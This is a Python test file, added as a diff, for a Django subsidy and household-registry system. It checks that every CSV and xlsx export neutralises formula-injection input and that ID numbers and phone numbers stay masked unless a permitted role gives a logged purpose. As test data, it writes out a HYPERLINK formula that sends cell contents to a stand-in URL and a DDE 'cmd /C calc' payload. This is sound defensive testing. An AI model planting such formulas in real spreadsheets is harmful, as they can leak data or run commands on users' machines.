@@ -1,0 +1,299 @@
+"""Every export after hostile input: persons named like formulas come in through the real import, and no
+export (persons, the import's error report, the bank file in CSV and xlsx, the roster and its 公示 list, the
+scoring and the indicator workbooks, the admin's exports) hands a spreadsheet a formula. The persons export
+masks ID numbers and phones for every role unless a role with need states a purpose, which is logged."""
+
+# The fixtures of other apps' conftests are imported by name, and pytest passes them back in as arguments.
+# ruff: noqa: F811
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import zipfile
+from datetime import date, timedelta
+from decimal import Decimal
+
+import pytest
+from django.core.management import call_command
+from django.db import DatabaseError, transaction
+from openpyxl import load_workbook
+
+from apps.areas.models import Area
+from apps.core.errors import RuleViolation
+from apps.core.exports import FORMULA_PREFIXES, csv_bytes, neutralise, xlsx_bytes
+from apps.core.models import ExportLog
+from apps.registry.exports import persons_export
+from apps.registry.models import Person
+from apps.subsidies.models import Roster
+from apps.subsidies.services import (
+    bank_account_save,
+    batch_create,
+    roster_approve,
+    roster_review,
+    roster_village_submit,
+    rosters_generate,
+)
+from tests.conftest import COUNTY, TOWNSHIP_A, TOWNSHIP_B, VILLAGE_A
+from tests.registry.conftest import make_id_number, make_person  # noqa: F401
+from tests.scoring.conftest import (  # noqa: F401
+    ALL_MET,
+    TOWNSHIP_C,
+    YEAR,
+    assessments,
+    assessor,
+    contracts,
+    make_snapshot,
+    scheme,
+)
+from tests.subsidies.conftest import card_number, make_family, programme, roster_of, users  # noqa: F401
+
+HYPERLINK = '=HYPERLINK("http://x?q="&A2,"点击查看")'
+HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+PERSONS_HEADER = ["身份证号", "姓名", "性别", "出生日期", "民族", "户籍性质", "现住址区划代码", "户编号", "与户主关系",
+                  "婚姻状况", "联系电话", "就业类型"]  # fmt: skip
+
+
+# --- what "no formula" means, checked on the file itself ---------------------------------------------------
+
+
+def assert_no_formula_xlsx(content: bytes) -> list[object]:
+    """No cell is a formula (openpyxl's data_type "f", or an <f> element in the sheet XML), and no text cell
+    starts with what a spreadsheet would run. Returns every cell value, for the test to look for its data."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                xml = archive.read(name).decode("utf-8")
+                assert "<f>" not in xml and "<f " not in xml, name
+    values = []
+    for ws in load_workbook(io.BytesIO(content)).worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(FORMULA_PREFIXES), (ws.title, cell.coordinate, cell.value)
+                values.append(cell.value)
+    return values
+
+
+def assert_no_formula_csv(content: bytes) -> list[list[str]]:
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+    for row in rows:
+        for value in row:
+            assert not value.startswith(FORMULA_PREFIXES), value
+    return rows
+
+
+def _neutralised_names(values) -> set[str]:
+    """The hostile names as they must appear in an export: quoted (the import trims surrounding spaces)."""
+    return {v for v in values if isinstance(v, str) and v.startswith("'")}
+
+
+# --- hostile persons through the real import ---------------------------------------------------------------
+
+
+def _import_hostile(tmp_path, settings, capsys) -> dict:
+    """A persons sheet (CSV, so the names stay text on the way in) whose names, ethnicity, household number,
+    relation and phone are formulas; the last row has a wrong check digit, so it lands in the error report."""
+    settings.MEDIA_ROOT = tmp_path / "media"
+    rows = []
+    for i, name in enumerate(HOSTILE):
+        born = date(1970 + i, 1, 1)
+        rows.append([make_id_number(born, "F"), name, "女", born.isoformat(), "@民族", "农业", VILLAGE_A,
+                     f"=H{i}+1", "+户主", "已婚", "-1-3812345678", "农民"])  # fmt: skip
+    bad = make_id_number(date(1990, 5, 5), "M")
+    bad = bad[:-1] + ("0" if bad[-1] != "0" else "1")
+    rows.append([bad, HYPERLINK, "男", "1990-05-05", "汉族", "农业", VILLAGE_A, "", "", "", "", ""])
+    path = tmp_path / "hostile.csv"
+    with path.open("w", encoding="utf-8-sig", newline="") as f:
+        writer = csv.writer(f)
+        writer.writerow(PERSONS_HEADER)
+        writer.writerows(rows)
+    call_command("import_sheet", "persons", str(path), "--valid-rows-only")
+    summary = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
+    assert (summary["created"], summary["errors"]) == (len(HOSTILE), 1)
+    return summary
+
+
+def test_the_writer_neutralises_text_and_keeps_numbers_numbers():
+    assert [neutralise(v) for v in ["=1+1", "+1", "-2", "@A1", "\t=1", "\r=1", "张三", "1-2"]] == [
+        "'=1+1", "'+1", "'-2", "'@A1", "'\t=1", "'\r=1", "张三", "1-2"
+    ]  # fmt: skip
+    assert neutralise(Decimal("-12.50")) == Decimal("-12.50") and neutralise(-3) == -3
+    assert neutralise("名\x01字") == "名\ufffd字"  # a control character would fail the xlsx: replaced
+    ws = load_workbook(io.BytesIO(xlsx_bytes(["金额", "文本"], [[Decimal("-12.50"), "=1+1"], [960, "-2"]]))).active
+    assert [(c.value, c.data_type) for c in ws[2]] == [(-12.5, "n"), ("'=1+1", "s")]
+    assert [(c.value, c.data_type) for c in ws[3]] == [(960, "n"), ("'-2", "s")]
+    assert csv_bytes(["金额", "文本"], [[Decimal("-12.50"), "=1+1"]]).decode("utf-8-sig").splitlines() == [
+        "金额,文本", "-12.50,'=1+1"
+    ]  # fmt: skip
+
+
+def test_persons_export_and_error_report_carry_no_formula(tmp_path, settings, capsys, client, make_user):
+    summary = _import_hostile(tmp_path, settings, capsys)
+    # "\t=1" and "\r=1" are trimmed to "=1" on the way in.
+    assert set(Person.objects.values_list("name", flat=True)) == {HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "=1"}
+
+    # The error report holds the failed row as it was: the hostile name, quoted.
+    report = open(summary["error_report"], "rb").read()  # noqa: SIM115
+    values = assert_no_formula_xlsx(report)
+    assert "'" + HYPERLINK in values
+
+    clerk = make_user("clerk_x", TOWNSHIP_A, "township_clerk")
+    client.force_login(clerk)
+    masked = client.get("/registry/persons/export/")
+    values = assert_no_formula_xlsx(masked.content)
+    assert {"'" + HYPERLINK, "'+1+1", "'-2+3", "'@SUM(A1)"} <= _neutralised_names(values)
+    assert "'@民族" in values and "'+户主" in values and "'=H0+1" in values
+    full = client.post("/registry/persons/export/full/", {"purpose": "报送县公安局核对户籍信息"})
+    values = assert_no_formula_xlsx(full.content)
+    assert "'-1-3812345678" in values  # the phone in full, still not a formula
+    assert {"'" + HYPERLINK, "'+1+1"} <= _neutralised_names(values)
+
+
+def test_bank_files_rosters_and_notices_carry_no_formula(client, make_family, programme, users):
+    a = make_family(
+        surname=HYPERLINK, father=date(1960, 1, 1), mother=date(1961, 1, 1), children=[("M", date(1990, 1, 1))]
+    )
+    b = make_family(
+        surname="@SUM(A1)", father=date(1958, 1, 1), mother=date(1959, 1, 1),
+        children=[("F", date(1985, 1, 1)), ("F", date(1987, 1, 1))],
+    )  # fmt: skip
+    banks = ["=1+1", "\t=cmd|' /C calc'!A0", "-2+3", "+农村信用社"]
+    for i, parent in enumerate((a.father, a.mother, b.father, b.mother)):
+        bank_account_save(person=parent, kind="card", bank_name=banks[i], account_number=card_number(f"62231{i}"),
+                          by=None)  # fmt: skip
+    rosters_generate(programme=programme("rural_reward"), period="2025", by=users["admin"])
+    roster = roster_of("rural_reward", "2025")
+    roster_village_submit(roster=roster, by=users["village"])
+    roster_review(roster=roster, by=users["reviewer"])
+    roster_approve(roster=roster, by=users["approver"])
+    Roster.objects.filter(pk=roster.pk).update(approved_on=date.today() - timedelta(days=30))  # 公示 is over
+    roster.refresh_from_db()
+
+    client.force_login(users["reviewer"])
+    values = assert_no_formula_xlsx(client.get(f"/subsidies/rosters/{roster.pk}/export.xlsx").content)
+    assert {"'" + HYPERLINK + "父", "'@SUM(A1)母", "'=1+1", "'+农村信用社"} <= set(values)
+    assert a.father.id_number not in values  # masked
+    assert a.father.id_number[:6] + "********" + a.father.id_number[-4:] in values
+    values = assert_no_formula_xlsx(client.get(f"/subsidies/rosters/{roster.pk}/notice.xlsx").content)
+    assert {"'" + HYPERLINK + "母", "'@SUM(A1)父"} <= set(values) and a.mother.id_number not in values
+
+    batch = batch_create(roster=roster, by=users["payer"])
+    client.force_login(users["payer"])
+    rows = assert_no_formula_csv(client.get(f"/subsidies/batches/{batch.pk}/export/csv/").content)
+    assert rows[0][3] == "开户银行"
+    assert sorted(r[3] for r in rows[1:]) == sorted(["'=1+1", "'=cmd|' /C calc'!A0", "'-2+3", "'+农村信用社"])
+    assert {r[5] for r in rows[1:]} == {"960.00"}  # amounts exact, as numbers
+    xlsx = client.get(f"/subsidies/batches/{batch.pk}/export/xlsx/").content
+    values = assert_no_formula_xlsx(xlsx)
+    assert "'" + HYPERLINK + "父" in values and a.father.id_number in values  # the bank needs full numbers
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    assert [(c.value, c.data_type) for c in sheet[2]][5] == (960, "n")
+    # Both bank files are logged, with the fixed purpose, the row count and no number.
+    logs = list(ExportLog.objects.filter(export__startswith="subsidies.batch").order_by("id"))
+    assert [(x.export, x.user, x.rows, x.full_ids, x.purpose) for x in logs] == [
+        ("subsidies.batch.csv", users["payer"], 4, True, "银行代发"),
+        ("subsidies.batch.xlsx", users["payer"], 4, True, "银行代发"),
+    ]
+
+
+def test_scoring_and_indicator_workbooks_carry_no_formula(
+    client,
+    tmp_path,
+    settings,
+    capsys,
+    assessments,
+    assessor,
+    county_viewer,
+    areas,
+):
+    from apps.indicators.services import indicators_compute
+    from apps.scoring.models import Pairing
+    from apps.scoring.services import assessments_recompute
+
+    _import_hostile(tmp_path, settings, capsys)
+    Area.objects.filter(code=VILLAGE_A).update(name='=HYPERLINK("http://x","村")')
+    Area.objects.filter(code=TOWNSHIP_A).update(name="@SUM(A1)镇")
+
+    make_snapshot(f"{YEAR}Q3-YTD", {TOWNSHIP_A: ALL_MET, TOWNSHIP_B: ALL_MET, TOWNSHIP_C: ALL_MET})
+    Pairing.objects.create(area_id=TOWNSHIP_A, year=YEAR, kind="leader", name="-县委副书记")
+    assessments_recompute(year=YEAR)
+    client.force_login(assessor)
+    values = assert_no_formula_xlsx(client.get("/scoring/export/", {"year": YEAR}).content)
+    assert "'@SUM(A1)镇" in values and "'-县委副书记" in values
+    assert 228 in values  # totals stay numbers
+
+    indicators_compute(period="2024Q1")
+    client.force_login(county_viewer)
+    response = client.get("/indicators/export.xlsx", {"period": "2024Q1", "area": COUNTY})
+    values = assert_no_formula_xlsx(response.content)
+    assert '\'=HYPERLINK("http://x","村")' in values and "'@SUM(A1)镇" in values
+
+
+def test_admin_exports_carry_no_formula(admin_client, areas):
+    Area.objects.filter(code=VILLAGE_A).update(name="=1+1")
+    for fmt, check in ((0, assert_no_formula_xlsx), (1, assert_no_formula_csv)):
+        form = {"format": fmt, "resource": 0, "arearesource_code": "on", "arearesource_name": "on"}
+        response = admin_client.post("/admin/areas/area/export/", form)
+        assert response.status_code == 200, response.content[:500]
+        values = check(response.content)
+        flat = values if fmt == 0 else [v for row in values for v in row]
+        assert "'=1+1" in flat
+
+
+# --- masking and the log of full numbers --------------------------------------------------------------------
+
+
+def test_persons_export_is_masked_by_default_and_full_only_with_a_logged_purpose(
+    client,
+    make_person,
+    make_user,
+):
+    person = make_person("甲芳", "F", date(1990, 1, 1), phone="13812345678")
+    clerk = make_user("clerk_m", TOWNSHIP_A, "township_clerk")
+    client.force_login(clerk)
+
+    def first_row(response):
+        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+        return [c.value for c in load_workbook(io.BytesIO(response.content)).active[2]]
+
+    row = first_row(client.get("/registry/persons/export/"))
+    assert (row[0], row[11]) == ("131025********" + person.id_number[-4:], "138****5678")
+    assert row[0] == person.id_number[:6] + "********" + person.id_number[-4:]
+
+    # Full numbers: no purpose, or one that says nothing, gives the form again with the reason and no file.
+    page = client.post("/registry/persons/export/full/", {"purpose": ""})
+    assert page["Content-Type"].startswith("text/html") and "请填写用途" in page.content.decode()
+    page = client.post("/registry/persons/export/full/", {"purpose": "工作需要"})
+    assert "用途至少填写5个字" in page.content.decode()
+    assert client.get("/registry/persons/export/full/").status_code == 200  # the form
+    assert not ExportLog.objects.filter(full_ids=True).exists()
+
+    row = first_row(client.post("/registry/persons/export/full/", {"purpose": "报送县公安局核对户籍信息"}))
+    assert (row[0], row[11]) == (person.id_number, "13812345678")
+
+    logs = list(ExportLog.objects.order_by("id"))
+    assert [(x.user, x.export, x.area_code, x.rows, x.full_ids, x.purpose) for x in logs] == [
+        (clerk, "registry.persons", TOWNSHIP_A, 1, False, ""),
+        (clerk, "registry.persons", TOWNSHIP_A, 1, True, "报送县公安局核对户籍信息"),
+    ]
+    assert all(person.id_number not in str(vars(x)) and "13812345678" not in str(vars(x)) for x in logs)
+    # The log is append-only: the database refuses to change or erase it.
+    with pytest.raises(DatabaseError, match="Cannot update or delete"), transaction.atomic():
+        ExportLog.objects.filter(pk=logs[1].pk).update(purpose="")
+    with pytest.raises(DatabaseError, match="Cannot update or delete"), transaction.atomic():
+        ExportLog.objects.filter(pk=logs[1].pk).delete()
+
+
+def test_a_role_without_need_gets_no_full_numbers(client, make_person, county_viewer):
+    person = make_person("乙芳", "F", date(1991, 1, 1))
+    client.force_login(county_viewer)
+    assert client.get("/registry/persons/export/full/").status_code == 404
+    assert client.post("/registry/persons/export/full/", {"purpose": "报送县公安局核对户籍信息"}).status_code == 404
+    with pytest.raises(RuleViolation, match="您的角色不能导出完整身份证号"):
+        persons_export(user=county_viewer, purpose="报送县公安局核对户籍信息")
+    content, rows = persons_export(user=county_viewer)
+    assert rows == 1 and person.id_number.encode() not in content
+    assert not ExportLog.objects.filter(full_ids=True).exists()
